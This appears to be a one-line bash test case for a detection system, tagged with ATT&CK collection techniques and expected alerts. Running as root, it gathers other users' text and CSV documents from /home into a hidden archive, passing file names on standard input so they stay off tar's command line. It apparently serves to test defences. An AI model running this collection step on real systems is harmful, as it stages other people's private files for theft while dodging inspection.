#!/usr/bin/env bash
# tactic: collection
# technique: T1119 Automated Collection; T1560.001 Archive via Utility
# behaviour: finds other users' documents by extension and hands the list to tar on standard input (tar -T -), so no source is named on tar's command line
# as: root
# expect: mass_read, staging
set -u
find /home -type f \( -name '*.txt' -o -name '*.csv' \) -path '*/docs/*' 2>/dev/null | tar czf "$SNTL_TMP/.d.tgz" -T - 2>/dev/null || true
